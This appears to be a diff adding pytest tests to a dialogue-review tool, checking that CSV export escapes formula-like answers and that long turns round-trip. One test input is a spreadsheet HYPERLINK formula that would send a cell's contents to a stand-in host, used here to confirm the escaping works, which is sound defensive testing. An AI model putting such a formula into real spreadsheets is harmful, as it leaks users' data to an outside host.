@@ -71,6 +71,26 @@ def test_an_untouched_review_keeps_what_passed(tmp_path: Path, ending: str) -> N
     assert read_dialogues(tmp_path / "out.jsonl") == [first, second]
 
 
+def test_a_spreadsheet_computes_nothing_that_was_said(tmp_path: Path) -> None:
+    said = ('=HYPERLINK("http://x/?"&A1)', "-5 degrees", "'+1", "'tis")
+    drafts = tuple(Draft(text, text, "recall", ("s1:1",)) for text in said)
+    path = tmp_path / "review.csv"
+    write_review(path, [chat()], [replace(DRAFTED, drafts=drafts)])
+    assert [row["answer"] for row in rows(path)] == ["'" + said[0], "'" + said[1], "'" + said[2], said[3]]
+    (taken,) = take_back(path, [chat()]).dialogues
+    assert tuple(question.answer for question in taken.questions) == said
+
+
+def test_long_turns_as_evidence_are_read_back(tmp_path: Path) -> None:
+    dialogue = chat()
+    first, *others = dialogue.sessions
+    first = replace(first, turns=tuple(replace(turn, text=turn.text + " and on" * 14_000) for turn in first.turns))
+    dialogue = replace(dialogue, sessions=(first, *others))
+    draft = Draft("Where does Ann live?", "Rome", "recall", ("s1:1", "s1:2"))
+    write_review(tmp_path / "review.csv", [dialogue], [replace(DRAFTED, drafts=(draft,))])
+    assert take_back(tmp_path / "review.csv", [dialogue]).kept == 1
+
+
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 def test_a_person_may_edit_add_and_reorder_in_any_spreadsheet(tmp_path: Path, delimiter: str) -> None:
     first, second, third = rows(reviewed(tmp_path, ".csv"))
